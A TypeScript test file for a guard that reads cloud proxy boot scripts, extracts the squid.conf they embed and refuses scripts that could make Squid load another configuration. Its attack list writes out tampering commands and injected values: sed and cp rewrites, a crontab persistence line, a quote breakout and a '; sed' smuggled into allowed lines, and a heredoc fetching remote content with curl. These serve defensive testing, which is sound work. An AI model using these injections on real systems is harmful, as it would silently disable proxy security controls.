/**
 * The squid.conf a proxy's boot script gives Squid: the library's own scripts are read (the text is the squid.conf they
 * embed), and a script that could make Squid load anything else is refused, whatever its heredoc says.
 */
import { proxyBootScript } from './security-cloud-fixture';
import { alphaPrime, alphaPrimeSanitization } from '../../examples/blueprints';
import { scriptCommands, squidConfiguration } from '../../src/guard/boot-script';
import { BASE64_REFERENCE } from '../../src/guard/graph';
import { Blueprint } from '../../src/model/validate';
import { planOf } from '../../src/plan/cache';
import { planSecurityCloud } from '../../src/plan/security-cloud';
import { hubProps } from '../security-cloud/fixtures';

/** The boot script of test/guard/launch-configuration.test.ts (its `SQUID`): an unquoted heredoc without expansions. */
const MINIMAL = '#!/bin/bash\ncat > /etc/squid/squid.conf <<EOF\nhttp_port 3128\nEOF\n';

const tenantProxy = planOf(Blueprint.validate(alphaPrime)).tenantProxy!;
/** The α′ tenant-restriction proxy's script (Amazon Linux 2023), with its literal ARN's base64. */
const ALPHA = tenantProxy.bootScript;
const hubProxy = planSecurityCloud(hubProps()).proxy;
/** The prefecture hub's proxy's script (Debian). */
const HUB = hubProxy.userData;
const SQUID_EOF = 'JICHITAI_SQUID_CONF';

/** `script` with `extra` inserted after its first line equal to `line`. */
function after(script: string, line: string, ...extra: string[]): string {
  const lines = script.split('\n');
  const at = lines.indexOf(line);
  if (at < 0) throw new Error(`test setup: no line ${JSON.stringify(line)}`);
  return [...lines.slice(0, at + 1), ...extra, ...lines.slice(at + 1)].join('\n');
}

/** `script` with its first line equal to `line` replaced by `by` (none: removed). */
function replace(script: string, line: string, ...by: string[]): string {
  const lines = script.split('\n');
  const at = lines.indexOf(line);
  if (at < 0) throw new Error(`test setup: no line ${JSON.stringify(line)}`);
  return [...lines.slice(0, at), ...by, ...lines.slice(at + 1)].join('\n');
}

const read = (text: string) => ({ kind: 'read', text });
const refused = (why: RegExp) => ({ kind: 'unreadable', why: { en: expect.stringMatching(why), ja: expect.any(String) } });
const NOT_A_FORM = /^line \d+ is not a command of the proxy boot scripts the guard reads: "/;

describe('the library\'s own boot scripts are read: the text is the squid.conf they embed', () => {
  test.each([['case イ', alphaPrime], ['case ウ', alphaPrimeSanitization]])('the α′ tenant proxy (%s): a literal ARN, a reference, and Terraform\'s reading', (_, blueprint) => {
    const plan = planOf(Blueprint.validate(blueprint)).tenantProxy!;
    const { head, tail } = plan.bootScriptParts;
    expect(plan.squidConfig.endsWith('\n')).toBe(true);
    expect(squidConfiguration(plan.bootScript)).toEqual(read(plan.squidConfig));
    // CloudFormation's Fn::Base64 and Terraform's base64encode of a reference read BASE64_REFERENCE; an empty value is base64 too.
    expect(squidConfiguration(`${head}${BASE64_REFERENCE}${tail}`)).toEqual(read(plan.squidConfig));
    expect(squidConfiguration(`${head}${tail}`)).toEqual(read(plan.squidConfig));
    // A reference the engine did not encode may hold a quote and a command of its own.
    expect(squidConfiguration(`${head}{reference}${tail}`)).toEqual(refused(/is not a command of the proxy boot scripts the guard reads: "SECRET_ARN_BASE64='\{reference\}'"/));
  });

  test('the prefecture hub\'s proxy (Debian)', () => {
    expect(hubProxy.squidConfig.endsWith('\n')).toBe(true);
    expect(squidConfiguration(HUB)).toEqual(read(hubProxy.squidConfig));
  });

  test.each(['deny-first', 'no-deny', 'deny-after-allow'] as const)('the security-cloud fixture\'s hand-written script (%s)', (variant) => {
    const script = proxyBootScript(variant);
    const result = squidConfiguration(script);
    const lines = script.split('\n');
    expect(result).toEqual(read(lines.slice(2, lines.indexOf('EOF')).map((l) => `${l}\n`).join('')));
  });

  test('the launch-configuration test\'s minimal script (an unquoted heredoc without $, ` or \\), under bash and under sh', () => {
    expect(squidConfiguration(MINIMAL)).toEqual(read('http_port 3128\n'));
    expect(squidConfiguration(MINIMAL.replace('#!/bin/bash', '#!/bin/sh'))).toEqual(read('http_port 3128\n'));
    expect(squidConfiguration(MINIMAL.replace('<<EOF', '<<"EOF"'))).toEqual(read('http_port 3128\n'));
  });

  test('lines bash joins with a backslash are read joined; comments and blank lines are skipped', () => {
    const script = replace(HUB, 'systemctl restart squid', '  # restart, so Squid loads the file', '', 'systemctl \\', 'restart squid');
    expect(squidConfiguration(script)).toEqual(read(hubProxy.squidConfig));
  });

  test('kept per text: the same answer object for the same script', () => {
    expect(squidConfiguration(HUB)).toBe(squidConfiguration(HUB));
  });
});

describe('a script that could make Squid load something else is unreadable', () => {
  const attacks: [string, string, RegExp][] = [
    ['sed -i rewrites squid.conf after the heredoc: not a form',
      after(ALPHA, SQUID_EOF, "sed -i 's/^ssl_bump bump/ssl_bump splice/' /etc/squid/squid.conf"), NOT_A_FORM],
    ['echo … >> appends a directive: not a form', after(ALPHA, SQUID_EOF, "echo 'ssl_bump splice all' >> /etc/squid/squid.conf"), NOT_A_FORM],
    ['aws s3 cp replaces the file: not a form', after(HUB, SQUID_EOF, 'aws s3 cp s3://x/squid.conf /etc/squid/squid.conf'), NOT_A_FORM],
    ['cp replaces the file: not a form', after(HUB, SQUID_EOF, 'cp /tmp/x.conf /etc/squid/squid.conf'), NOT_A_FORM],
    ['squid -f loads another file: only "squid -k parse -f /etc/squid/squid.conf" is a form',
      after(HUB, SQUID_EOF, 'squid -f /tmp/x.conf'), /is not a command .*"squid -f \/tmp\/x\.conf"/],
    ['squid -N starts a Squid of its own: not a form', after(HUB, 'systemctl restart squid', 'squid -N'), /"squid -N"/],
    ['a systemd drop-in heredoc changes how Squid starts: not a heredoc target',
      after(HUB, SQUID_EOF, "cat > /etc/systemd/system/squid.service.d/override.conf <<'X'", '[Service]', 'ExecStart=', 'ExecStart=/usr/sbin/squid -f /tmp/x.conf', 'X'),
      /"cat > \/etc\/systemd\/system\/squid\.service\.d\/override\.conf <<'X'"/],
    ['a second squid.conf heredoc replaces the first',
      after(HUB, SQUID_EOF, "cat > /etc/squid/squid.conf <<'Y'", 'http_port 3128', 'http_access allow all', 'Y'), /writes \/etc\/squid\/squid\.conf a second time/],
    ['cat >> appends a heredoc: not a form', after(HUB, SQUID_EOF, "cat >> /etc/squid/squid.conf <<'Y'", 'http_access allow all', 'Y'), /"cat >> /],
    ['a path built from a variable: not a form',
      after(ALPHA, SQUID_EOF, 'C=/etc/sq', "sed -i 's/bump/splice/' ${C}uid/squid.conf"), /is not a command .*"C=\/etc\/sq"/],
    ['python3 -c writing squid.conf: only the library\'s exact line (writing the CA) is a form',
      after(ALPHA, SQUID_EOF, 'python3 -c \'open("/etc/squid/squid.conf", "a").write("ssl_bump splice all\\n")\''), /"python3 -c /],
    ['the library\'s python3 line changed to write squid.conf', ALPHA.replace('open("/etc/squid/ssl/ca.key", "w")', 'open("/etc/squid/squid.conf", "a")'),
      /"aws secretsmanager get-secret-value/],
    ['a trailing "; sed …" on an allowed line', replace(ALPHA, 'systemctl enable --now squid', "systemctl enable --now squid; sed -i 's/bump/splice/' /etc/squid/squid.conf"),
      /"systemctl enable --now squid; sed/],
    ['a $(…) inside an allowed line', replace(ALPHA, 'chmod 0644 /etc/squid/ssl/ca.pem', 'chmod 0644 /etc/squid/ssl/ca.pem$(cp /tmp/x.conf /etc/squid/squid.conf)'),
      NOT_A_FORM],
    ['a continued line hides a command: read joined, as bash does',
      replace(HUB, 'systemctl restart squid', 'systemctl restart squid \\', "&& sed -i 's/bump/splice/' /etc/squid/squid.conf"), /"systemctl restart squid && sed/],
    ['a comment ending in a backslash does not continue: the next line is a command',
      after(HUB, SQUID_EOF, '# harmless \\', 'cp /tmp/x.conf /etc/squid/squid.conf'), /"cp \/tmp\/x\.conf/],
    ['an unquoted heredoc body with $(…), which bash expands',
      MINIMAL.replace('http_port 3128\n', 'http_port 3128\n$(curl -s http://x/extra.conf)\n'), /unquoted heredoc whose body holds \$/],
    ['an unquoted heredoc body with a backslash, which bash removes before a newline', MINIMAL.replace('http_port 3128\n', 'http_port 3128\\\nEOF\n'),
      /unquoted heredoc/],
    ['a squid.conf body without its delimiter', replace(ALPHA, SQUID_EOF), /heredoc that no line "JICHITAI_SQUID_CONF" ends/],
    ['a delimiter with a trailing blank does not end the body', replace(HUB, SQUID_EOF, `${SQUID_EOF} `), /no line "JICHITAI_SQUID_CONF" ends/],
    ['<<- strips tabs: not a form', MINIMAL.replace('<<EOF', '<<-EOF'), /"cat > \/etc\/squid\/squid\.conf <<-EOF"/],
    ['a #cloud-config first line: another user-data format', '#cloud-config\nwrite_files:\n- path: /etc/squid/squid.conf\n  content: |\n    http_port 3128\n',
      /does not start with #!\/bin\/bash or #!\/bin\/sh.*"#cloud-config"/],
    ['a shebang with options: not the first line of a form', ALPHA.replace('#!/bin/bash', '#!/bin/bash -x'), /does not start with/],
    ['CR line ends', HUB.replace(/\n/g, '\r\n'), /^line 1 holds a carriage return/],
    ['a CR inside the squid.conf body', HUB.replace('http_access deny all\n', 'http_access deny all\r\n'), /holds a carriage return: "http_access deny all\\r"/],
    ['a NUL', HUB.replace('apt-get update', 'apt-get update\0'), /holds a NUL/],
    ['a final line that ends in a backslash', `${MINIMAL}squid -k parse -f /etc/squid/squid.conf \\\n`, /ends in a backslash and no line follows/],
    ['dnf install -y something-else: a package outside the fixed set', after(ALPHA, 'dnf install -y squid', 'dnf install -y something-else'), /installs a package other than/],
    ['a package list with an option hidden in it', replace(ALPHA, 'dnf install -y squid', 'dnf install -y squid --setopt=x'), NOT_A_FORM],
    ['systemctl edit squid', after(HUB, 'systemctl restart squid', 'systemctl edit squid'), /"systemctl edit squid"/],
    ['systemctl set-environment', after(HUB, 'systemctl restart squid', 'systemctl set-environment SQUID_ARGS=-f/tmp/x.conf'), /"systemctl set-environment/],
    ['a crontab that rewrites squid.conf later', after(HUB, 'systemctl restart squid', "(crontab -l; echo '*/5 * * * * cp /tmp/x.conf /etc/squid/squid.conf') | crontab -"),
      /"\(crontab -l/],
    ['Squid restarted before the heredoc only (it keeps the configuration it started with)',
      replace(replace(HUB, 'systemctl restart squid'), 'apt-get install -y --no-install-recommends squid curl', 'apt-get install -y --no-install-recommends squid curl',
        'systemctl restart squid'), /starts Squid before the script writes \/etc\/squid\/squid\.conf/],
    ['Debian\'s package starts Squid on install, and the script never restarts it', replace(HUB, 'systemctl restart squid'), /does not restart it after writing/],
    ['Debian: "enable --now" leaves the running Squid as it is', replace(HUB, 'systemctl restart squid', 'systemctl enable --now squid'), /does not restart it/],
    ['Squid installed after its configuration is written (the package may bring its own)',
      after(HUB, SQUID_EOF, 'apt-get install -y --no-install-recommends squid-openssl'), /installs Squid after the script writes/],
    ['exit before the heredoc: only inside the ARN check', after(ALPHA, 'dnf install -y squid', 'exit 0'), /"exit 0"/],
    ['the ARN check\'s body changed', replace(ALPHA, '  exit 1', '  exit 0'), /not followed by the ARN check's own lines/],
    ['bash\'s lines under #!/bin/sh (dash stops at <<<)', ALPHA.replace('#!/bin/bash', '#!/bin/sh'), /needs bash, and the script runs under \/bin\/sh: "set -euo pipefail"/],
    ['a quote breaking out of the ARN\'s word', ALPHA.replace(/^SECRET_ARN_BASE64='[^']*'$/m, "SECRET_ARN_BASE64='x'; cp /tmp/x.conf /etc/squid/squid.conf; X=''"),
      /"SECRET_ARN_BASE64='x'; cp/],
    ['a deploy-time value in the body, which could hold the delimiter', HUB.replace('http_access deny all\n', 'http_access deny all\n{reference}\n'),
      /heredoc whose body holds a value known only at deploy time/],
    ['the CloudWatch agent heredoc pointed out of its directory', MINIMAL.replace('\nEOF\n', "\nEOF\ncat > /opt/aws/amazon-cloudwatch-agent/etc/../x.json <<'J'\n{}\nJ\n"),
      /"cat > \/opt\/aws\/amazon-cloudwatch-agent\/etc\/\.\.\/x\.json <<'J'"/],
  ];

  test.each(attacks)('%s', (_, script, why) => {
    expect(squidConfiguration(script)).toEqual(refused(why));
  });

  test('no squid.conf heredoc at all: said so', () => {
    expect(squidConfiguration('#!/bin/bash\n# http_port 3128\ndnf install -y squid\n'))
      .toEqual({ kind: 'unreadable', why: { en: 'the boot script writes no /etc/squid/squid.conf', ja: 'ブートスクリプトが /etc/squid/squid.conf を書かない' } });
  });

  test('the line quoted in the reason is cut at 80 characters', () => {
    const result = squidConfiguration(after(HUB, SQUID_EOF, `echo ${'x'.repeat(200)}`));
    expect(result).toEqual(refused(/: "echo x{74}…"$/));
  });
});

describe('the commands of a boot script (what starts the CloudWatch agent, LOG-1)', () => {
  test('comments, blank lines and heredoc bodies are no commands; continued lines are one; a here-string opens no heredoc', () => {
    const script = [
      '#!/bin/bash',
      '  # a comment with <<\'X\' in it',
      '',
      'REGION=$(cut -d: -f4 <<<"$SECRET_ARN")',
      "cat > /tmp/a <<'EOF'",
      'echo inside',
      'EOF',
      'echo one \\',
      '  two',
      'cat <<-END',
      '\techo tabbed',
      '\tEND',
      'echo after',
    ].join('\n');
    expect(scriptCommands(script)).toEqual([
      { line: 'REGION=$(cut -d: -f4 <<<"$SECRET_ARN")' },
      { line: "cat > /tmp/a <<'EOF'", heredoc: ['echo inside'] },
      { line: 'echo one   two' },
      { line: 'cat <<-END', heredoc: ['\techo tabbed'] },
      { line: 'echo after' },
    ]);
  });

  test('a heredoc without its delimiter runs to the end of the script, as bash reads it', () => {
    expect(scriptCommands("#!/bin/bash\ncat > /tmp/a <<'EOF'\necho never\n")).toEqual([{ line: "cat > /tmp/a <<'EOF'", heredoc: ['echo never', ''] }]);
  });
});
